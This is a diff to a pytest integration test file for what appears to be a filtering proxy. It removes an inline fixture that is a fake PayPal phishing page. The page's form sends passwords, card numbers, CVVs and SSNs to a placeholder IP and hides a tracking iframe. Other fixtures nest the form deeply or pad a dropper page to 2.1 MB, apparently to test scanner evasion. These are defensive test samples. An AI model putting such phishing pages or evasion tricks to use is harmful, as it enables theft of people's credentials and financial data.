@@ -21,34 +21,9 @@ import threading
 import time
 
 import pytest
-from proxy_support import (
-    DROPPER,
-    DROPPER_JS,
-    Client,
-    Route,
-    Upstream,
-    make_self_signed,
-    start_gateway,
-)
+from helpers.proxy import Client, DROPPER, DROPPER_JS, PHISH, Route, Upstream, deep, make_self_signed, start_gateway
 
 pytestmark = [pytest.mark.integration, pytest.mark.timeout(900)]
-
-PHISH = b"""<!DOCTYPE html><html><head><title>PayPal: Log in to your account</title></head><body>
-<div class="logo">PayPal</div><h1>Your account has been limited</h1>
-<p>We noticed unusual activity. Verify your account information to restore access. Confirm your identity now.</p>
-<form action="http://198.51.100.23/paypal/login.php" method="post">
-<input type="email" name="login_email" placeholder="Email">
-<input type="password" name="login_password" placeholder="Password">
-<input type="text" name="cc_number" placeholder="Card number"><input type="text" name="cvv" placeholder="CVV">
-<input type="text" name="ssn" placeholder="Social Security Number">
-<button type="submit">Log In</button></form>
-<iframe src="http://198.51.100.23/track" width="0" height="0" style="display:none"></iframe>
-</body></html>"""
-
-
-def deep(page: bytes, levels: int) -> bytes:
-    """The page with its form nested ``levels`` <div>s deep."""
-    return page.replace(b"<form", b"<div>" * levels + b"<form").replace(b"</body>", b"</div>" * levels + b"</body>")
 
 
 PADDED_PAGE = DROPPER.replace(b"<body>", b"<body><!--" + b"x" * 2_100_000 + b"-->")
